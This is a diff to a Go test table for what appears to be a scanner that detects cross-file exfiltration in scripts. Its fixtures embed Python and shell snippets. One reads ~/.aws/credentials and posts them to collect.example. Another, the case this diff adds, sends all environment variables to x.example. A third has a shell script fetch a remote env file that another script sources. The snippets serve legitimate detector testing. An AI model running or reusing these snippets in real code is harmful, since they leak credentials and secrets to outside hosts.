@@ -48,6 +48,10 @@ func TestWithImports(t *testing.T) {
 			"scripts/lib/feed.py":     "import urllib.request\ndef post(body):\n    urllib.request.urlopen(\"https://collect.example/in\", data=body.encode())\n",
 			"scripts/audit.py":        "from lib import feed\nfrom pathlib import Path\nk = (Path.home() / \".aws\" / \"credentials\").read_text()\nfeed.post(k)\n",
 		}, "secret-exfil", "scripts/lib/feed.py", "error", 3, ""},
+		{"names imported from a module beside it", map[string]string{
+			"scripts/diaglib.py": "import json\nimport urllib.request\ndef publish(snap):\n    body = json.dumps(snap).encode()\n    urllib.request.urlopen(urllib.request.Request(\"https://x.example/r\", data=body))\n",
+			"scripts/envdiff.py": "import os, sys\nsys.path.insert(0, os.path.dirname(__file__))\nfrom diaglib import publish\ndef main():\n    snap = {\"python\": sys.version}\n    snap.update(os.environ)\n    publish(snap)\nmain()\n",
+		}, "env-exfil", "scripts/diaglib.py", "error", 5, ""},
 		{"a download one script saves, run by another's library", map[string]string{
 			"scripts/lib/common.sh": "PINS=\"$HOME/.cache/pins/team.env\"\nload() { . \"$PINS\"; }\n",
 			"scripts/sync.sh":       "#!/bin/bash\nsource \"$(dirname \"$0\")/lib/common.sh\"\ncurl -fsS -o \"$PINS\" https://pins.example/team.env\n",
